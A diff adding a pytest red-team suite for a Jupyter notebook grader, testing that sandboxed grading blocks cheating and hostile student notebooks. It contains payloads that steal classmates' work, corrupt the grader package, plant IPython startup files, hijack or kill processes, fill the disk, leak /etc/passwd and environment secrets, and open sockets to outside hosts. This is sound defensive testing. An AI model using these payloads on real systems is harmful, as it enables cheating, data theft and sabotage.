@@ -1,0 +1,355 @@
+"""The red team: every attack on the grader that a student's notebook has been seen to make,
+graded in one class of lesson 03 beside honest notebooks that must keep their honest scores.
+
+The class is graded as an instructor would grade it, by the command line, two notebooks at a
+time, each in its sandbox. The grader runs from a copy of the package beside a copy of the
+course's solutions (``course/notebooks/``), as in a checkout, so that an attack that got
+through would harm that copy, never this repository. Each test names the attack it keeps out
+(issue 23's list) and what the honest notebooks still get.
+"""
+import copy
+import csv
+import hashlib
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import psutil
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT / "tools"))
+import notebooks  # noqa: E402
+
+pytestmark = pytest.mark.skipif(os.uname().sysname != "Linux", reason="the sandbox is Linux's")
+LESSON = "03_autodiff_from_scratch"
+SOLUTION, STUDENT = notebooks.editions(ROOT / "lessons" / f"{LESSON}.md")
+EXERCISES = 5
+SECRET = "redteam-secret-5e3a"  # in the grader's environment, and in a file beside the class
+MARKER = "nn-from-scratch-redteam-daemon"
+
+
+def exercise_cells(nb):
+    return [cell for cell in nb.cells if "exercise" in cell.metadata.get("tags", [])]
+
+
+def attack(first="", every=""):
+    """The student edition, with ``first`` added to its first exercise cell and ``every`` to
+    each (after the stub: what an attack defines wins)."""
+    nb = copy.deepcopy(STUDENT)
+    for number, cell in enumerate(exercise_cells(nb)):
+        cell.source += "\n" + (first if number == 0 else "") + "\n" + every
+    return nb
+
+
+def class_folder(tmp, server_port):
+    course, klass, results, out = (tmp / name for name in ("course", "class", "results", "out"))
+    shutil.copytree(ROOT / "nn_from_scratch", course / "nn_from_scratch",
+                    ignore=shutil.ignore_patterns("__pycache__"))
+    (course / "notebooks").mkdir()
+    shutil.copy(ROOT / "notebooks" / f"{LESSON}.ipynb", course / "notebooks")
+    for folder in (klass, results, out, tmp / "ipython"):
+        folder.mkdir()
+    secret_file = tmp / "secret.txt"
+    secret_file.write_text(f"{SECRET}\n")
+    steal = (f"import glob, json\nfor path in glob.glob({str(klass)!r} + '/*.ipynb') + "
+             f"glob.glob(str(__import__('pathlib').Path(__import__('inspect').getfile(check))"
+             f".resolve().parents[2]) + '/notebooks/*.ipynb'):\n"
+             f"    try:\n        cells = json.load(open(path))['cells']\n"
+             f"    except Exception:\n        continue\n    for cell in cells:\n"
+             f"        if 'exercise' in cell['metadata'].get('tags', []):\n"
+             f"            try:\n                exec(''.join(cell['source']), globals())\n"
+             f"            except Exception:\n                pass")
+    startup = "profile_default/startup/00-grade.py"
+    daemon = (f"import time\nhoard = b'x' * (1536 * 2**20)\ntime.sleep(30)\n"
+              f"open({str(out / 'grades.csv')!r}, 'a').write('i_daemon,5')")
+    notebooks_ = {
+        "a_honest": SOLUTION,
+        # other students' work, and the course's solutions, read and run for full marks
+        "b_read_classmates": attack(every=steal),
+        # every classmate's notebook overwritten, deleted, or turned into a FIFO
+        "c_destroy_classmates": attack(first=(
+            f"import glob, os\nfor path in glob.glob({str(klass)!r} + '/*.ipynb'):\n"
+            f"    if 'c_destroy' in path:\n        continue\n    try:\n"
+            f"        open(path, 'w').write('{{}}')\n        os.remove(path)\n"
+            f"        os.mkfifo(path)\n    except OSError:\n        pass")),
+        # the package edited on disk: its checkers, the grader's in-kernel module, the release
+        "e_edit_package": attack(first=(
+            "import pathlib, nn_from_scratch\npackage = pathlib.Path(nn_from_scratch.__file__)"
+            ".parent\nfor name, old, new in (('exercises/_core.py', 'result(\"not done\"', "
+            "'result(\"passed\"'), ('grade/in_kernel.py', 'record = _run_check(', "
+            "'record = {\"status\": \"passed\", \"message\": \"ok\"} or _run_check('), "
+            "('grade/release/03_autodiff_from_scratch.json', 'check.', 'print(')):\n"
+            "    try:\n        path = package / name\n"
+            "        path.write_text(path.read_text().replace(old, new))\n"
+            "    except OSError:\n        pass")),
+        # IPython's startup folder, where every later kernel would run it
+        "f_ipython_startup": attack(first=(
+            f"import os, pathlib\nfor folder in ({str(tmp / 'ipython')!r}, "
+            f"os.path.expanduser('~/.ipython')):\n    try:\n"
+            f"        path = pathlib.Path(folder) / {startup!r}\n"
+            f"        path.parent.mkdir(parents=True, exist_ok=True)\n"
+            f"        path.write_text('import math\\nmath.tanh = lambda x: 0.0')\n"
+            f"    except OSError:\n        pass")),
+        # another kernel found through /proc, connected to, and its maths broken
+        "g_other_kernels": attack(first=(
+            "import glob, os\nfrom jupyter_client import BlockingKernelClient\n"
+            "for cmdline in glob.glob('/proc/*/cmdline'):\n    try:\n"
+            "        args = open(cmdline, 'rb').read().split(b'\\0')\n"
+            "        connection = args[args.index(b'-f') + 1].decode()\n"
+            "        if str(os.getpid()) in cmdline:\n            continue\n"
+            "        client = BlockingKernelClient()\n"
+            "        client.load_connection_file(connection)\n"
+            "        client.start_channels()\n"
+            "        client.execute('import math; math.tanh = lambda x: 0.0')\n"
+            "    except Exception:\n        pass")),
+        # the grader killed, and every other process it can see
+        "h_kill_grader": attack(first=(
+            "import os, signal\nfor pid in [os.getppid()] + [int(p) for p in os.listdir('/proc')"
+            " if p.isdigit()]:\n    if pid != os.getpid():\n        try:\n"
+            "            os.kill(pid, signal.SIGKILL)\n        except OSError:\n"
+            "            pass")),
+        # a daemon that outlives its kernel, holds 1.5 GB past the cap, then edits the CSV
+        "i_daemon": attack(first=(
+            f"import subprocess, sys, time\nsubprocess.Popen([sys.executable, '-c', {daemon!r}, "
+            f"'{MARKER}'], start_new_session=True, stdout=subprocess.DEVNULL, "
+            f"stderr=subprocess.DEVNULL)\ntime.sleep(8)")),
+        # a forged part file where --merge results/part-*.json would take it
+        "j_part_file": attack(first=(
+            f"try:\n    open({str(results / 'part-~.json')!r}, 'w').write('{{}}')\n"
+            f"except OSError:\n    pass")),
+        # the --csv path made a folder, so that nothing is written at the end
+        "k_csv_folder": attack(first=(
+            f"import os\ntry:\n    os.makedirs({str(out / 'grades.csv')!r})\n"
+            f"except OSError:\n    pass")),
+        # 1.2 GB of output, and one display bigger than any message may be
+        "l_big_output": attack(first=(
+            "import sys\nchunk = 'x' * (2 * 2**20)\nfor _ in range(600):\n"
+            "    print(chunk)\n    sys.stdout.flush()\n"
+            "from IPython.display import display\n"
+            "display({'text/plain': 'y' * (100 * 2**20)}, raw=True)")),
+        # an exception carrying a file's contents, the environment and terminal escapes
+        "m_exception_leak": attack(first=(
+            "import os\ndef mul(a, b):\n    raise ValueError('\\x1b[2J' + repr(dict(os.environ)))"
+            "\nraise RuntimeError(open('/etc/passwd').read() + repr(dict(os.environ)) + "
+            "'\\n\\x1b[31m' + 'A' * 5000)")),
+        # the lesson given as a path to a forged release shipped beside the notebook
+        "q_lesson_path": forged_lesson(klass),
+        # the disk filled from every folder it can write
+        "r_fill_disk": attack(first=(
+            "import os\nfor folder in (os.path.expanduser('~'), '/tmp', '/dev/shm', '.'):\n"
+            "    try:\n        with open(folder + '/fill', 'wb') as f:\n"
+            "            for _ in range(64):\n                f.write(bytes(2**24))\n"
+            "    except OSError:\n        pass")),
+        # the network: the instructor's machine, and the world
+        "s_network": attack(first=(
+            f"import socket\nfor address in (('127.0.0.1', {server_port}), "
+            f"('93.184.215.14', 80)):\n    try:\n"
+            f"        socket.create_connection(address, timeout=2).sendall(b'pwned')\n"
+            f"    except OSError:\n        pass")),
+        "y_stub": STUDENT,
+        "z_honest": SOLUTION,
+    }
+    for name, nb in notebooks_.items():
+        nbformat.write(nb, klass / f"{name}.ipynb")
+    os.symlink(course / "notebooks" / f"{LESSON}.ipynb", klass / "n_symlink_solution.ipynb")
+    os.symlink(secret_file, klass / "o_symlink_secret.ipynb")
+    os.mkfifo(klass / "p_fifo.ipynb")
+    return course, klass, results, out
+
+
+def forged_lesson(klass):
+    forged = klass / "forged"
+    forged.mkdir()
+    (forged / "release.json").write_text(json.dumps({
+        "lesson": LESSON, "checker": "autodiff_from_scratch", "cells": []}))
+    nb = copy.deepcopy(STUDENT)
+    nb.metadata["nn_from_scratch"]["lesson"] = str(forged / "release")
+    return nb
+
+
+def hashes(folder):
+    return {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*"))
+            if p.is_file() and "__pycache__" not in p.parts}
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("redteam")
+    server = socket.create_server(("127.0.0.1", 0))
+    heard = []
+
+    def listen():
+        server.settimeout(0.5)
+        while not stop.is_set():
+            try:
+                heard.append(server.accept())
+            except OSError:
+                continue
+
+    stop = threading.Event()
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    course, klass, results, out = class_folder(tmp, server.getsockname()[1])
+    package_before = hashes(course / "nn_from_scratch")
+    class_before = {p.name: hashlib.sha256(p.read_bytes()).hexdigest()
+                    for p in klass.glob("*.ipynb") if p.is_file() and not p.is_symlink()
+                    and p.name != "p_fifo.ipynb"}
+    env = {**os.environ, "PYTHONPATH": str(course), "IPYTHONDIR": str(tmp / "ipython"),
+           "NN_REDTEAM_SECRET": SECRET, "TMPDIR": str(tmp)}
+    command = [sys.executable, "-m", "nn_from_scratch", "grade", str(klass), "--jobs", "2",
+               "--memory", "1G", "--cell-timeout", "30", "--timeout", "150",
+               "--json-file", str(results / "part-1.json"), "--csv", str(out / "grades.csv"),
+               "--feedback", str(out), "--gradescope", str(out)]
+    grader = subprocess.Popen(command, env=env, cwd=tmp, stdout=subprocess.PIPE,
+                              stderr=subprocess.PIPE, text=True)
+    peak = [0]
+
+    def watch():
+        while grader.poll() is None:
+            try:
+                peak[0] = max(peak[0], psutil.Process(grader.pid).memory_info().rss)
+            except psutil.Error:
+                pass
+            time.sleep(0.05)
+
+    watcher = threading.Thread(target=watch, daemon=True)
+    watcher.start()
+    stdout, stderr = grader.communicate(timeout=900)
+    watcher.join()
+    stop.set()
+    listener.join()
+    server.close()
+    survivors = [p.pid for p in psutil.process_iter(["cmdline"])
+                 if MARKER in " ".join(p.info["cmdline"] or [])]
+    results_json = json.loads((results / "part-1.json").read_text())
+    return {
+        "tmp": tmp, "course": course, "klass": klass, "results": results, "out": out,
+        "returncode": grader.returncode, "stdout": stdout, "stderr": stderr,
+        "rows": {Path(n["notebook"]).stem: n for n in results_json["notebooks"]},
+        "package_before": package_before, "class_before": class_before, "heard": heard,
+        "peak": peak[0], "survivors": survivors, "env": env}
+
+
+def points(graded, name):
+    notebook = graded["rows"][name]
+    return sum(row["points"] for row in notebook["rows"])
+
+
+def statuses(graded, name):
+    return [row["status"] for row in graded["rows"][name]["rows"]]
+
+
+def test_the_grader_finishes_and_writes_every_export(graded):
+    assert graded["returncode"] == 1, graded["stderr"][-3000:]  # not everything passed
+    assert "each in a sandbox" in graded["stderr"]
+    assert (graded["out"] / "grades.csv").is_file()  # k_csv_folder made no folder of it
+    with open(graded["out"] / "grades.csv", newline="") as f:
+        rows = {Path(row["notebook"]).stem: row for row in csv.DictReader(f)}
+    assert len(rows) == len(graded["rows"]) == 20
+    assert rows["i_daemon"]["total"] == "0"  # the daemon died with its notebook
+    for name in graded["rows"]:
+        assert (graded["out"] / f"{name}.md").is_file()
+        assert (graded["out"] / f"{name}.json").is_file()
+
+
+def test_the_honest_notebooks_keep_their_honest_scores(graded):
+    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES
+    assert statuses(graded, "y_stub") == ["not done"] * EXERCISES
+    for name in ("a_honest", "z_honest", "y_stub"):
+        assert graded["rows"][name]["notes"] == [], name
+
+
+def test_classmates_work_and_the_solutions_cannot_be_read_or_destroyed(graded):
+    """b_read_classmates ran every exercise cell of the class and of course/notebooks;
+    c_destroy_classmates overwrote, deleted and turned into FIFOs every other notebook."""
+    assert points(graded, "b_read_classmates") == 0
+    assert statuses(graded, "b_read_classmates") == ["not done"] * EXERCISES
+    after = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in graded["klass"].glob(
+        "*.ipynb") if p.is_file() and not p.is_symlink() and p.name != "p_fifo.ipynb"}
+    assert after == graded["class_before"]
+
+
+def test_the_package_cannot_be_changed_for_anyone(graded):
+    assert hashes(graded["course"] / "nn_from_scratch") == graded["package_before"]
+    assert points(graded, "e_edit_package") == 0
+    assert statuses(graded, "y_stub") == ["not done"] * EXERCISES  # graded after it
+
+
+def test_no_later_kernel_runs_what_one_left_in_ipythons_startup_folder(graded):
+    assert not list((graded["tmp"] / "ipython").rglob("*.py"))
+    assert points(graded, "z_honest") == EXERCISES  # tanh still tanh
+
+
+def test_no_kernel_reaches_another_or_the_grader(graded):
+    """g_other_kernels looked for connection files in /proc to break its neighbours' tanh;
+    h_kill_grader killed its parent and every process it could see."""
+    assert statuses(graded, "g_other_kernels") == ["not done"] * EXERCISES
+    assert statuses(graded, "h_kill_grader") == ["not done"] * EXERCISES
+    assert points(graded, "a_honest") == points(graded, "z_honest") == EXERCISES
+
+
+def test_nothing_outlives_its_notebook_nor_escapes_the_memory_cap(graded):
+    assert graded["survivors"] == []
+    daemon = graded["rows"]["i_daemon"]
+    assert "out of memory" in statuses(graded, "i_daemon"), daemon
+
+
+def test_a_part_file_from_a_kernel_never_reaches_a_merge(graded):
+    assert sorted(p.name for p in graded["results"].iterdir()) == ["part-1.json"]
+    merged = subprocess.run(
+        [sys.executable, "-m", "nn_from_scratch", "grade", str(graded["results"] / "part-1.json"),
+         "--merge", "--json"], capture_output=True, text=True, timeout=120, env=graded["env"])
+    assert merged.returncode == 1, merged.stderr
+    forged = graded["tmp"] / "forged-part.json"
+    data = json.loads((graded["results"] / "part-1.json").read_text())
+    data["notebooks"][0]["rows"][0]["points"] = 100
+    forged.write_text(json.dumps(data))
+    refused = subprocess.run(
+        [sys.executable, "-m", "nn_from_scratch", "grade", str(forged), "--merge"],
+        capture_output=True, text=True, timeout=120, env=graded["env"])
+    assert refused.returncode == 2 and "not signed with this grader's key" in refused.stderr
+
+
+def test_a_flood_of_output_does_not_grow_the_grader(graded):
+    assert graded["peak"] < 600 * 2**20, f"the grader grew to {graded['peak'] / 2**20:.0f} MB"
+    notes = " ".join(graded["rows"]["l_big_output"]["notes"])
+    statuses_ = statuses(graded, "l_big_output")
+    assert "the rest was dropped" in notes or "out of memory" in statuses_, (notes, statuses_)
+
+
+def test_what_a_submission_says_is_shown_as_one_clean_line_without_secrets(graded):
+    exports = [graded["out"] / "grades.csv", graded["results"] / "part-1.json",
+               *graded["out"].glob("*.md"), *graded["out"].glob("*.json")]
+    for path in exports:
+        text = path.read_text()
+        assert SECRET not in text and "\x1b" not in text, path
+    for notebook in graded["rows"].values():
+        for row in notebook["rows"]:
+            assert len(row["message"]) <= 600 and "\n" not in row["message"], row
+
+
+def test_links_pipes_and_lesson_paths_are_refused_before_anything_runs(graded):
+    rows = graded["rows"]
+    assert "symbolic link" in rows["n_symlink_solution"]["rows"][0]["message"]
+    assert "symbolic link" in rows["o_symlink_secret"]["rows"][0]["message"]
+    assert "not a regular file" in rows["p_fifo"]["rows"][0]["message"]
+    assert "cannot tell which lesson" in rows["q_lesson_path"]["rows"][0]["message"]
+    for name in ("n_symlink_solution", "o_symlink_secret", "p_fifo", "q_lesson_path"):
+        assert points(graded, name) == 0
+
+
+def test_the_disk_and_the_network_are_out_of_reach(graded):
+    assert graded["heard"] == []  # nothing connected to the instructor's machine
+    assert statuses(graded, "s_network") == ["not done"] * EXERCISES
+    assert statuses(graded, "r_fill_disk") == ["not done"] * EXERCISES
+    big = [p for p in graded["tmp"].rglob("*") if p.is_file() and p.stat().st_size > 2**24]
+    assert big == []
+    assert not list(graded["tmp"].glob("nn-from-scratch-grade-*"))  # the private folder is gone
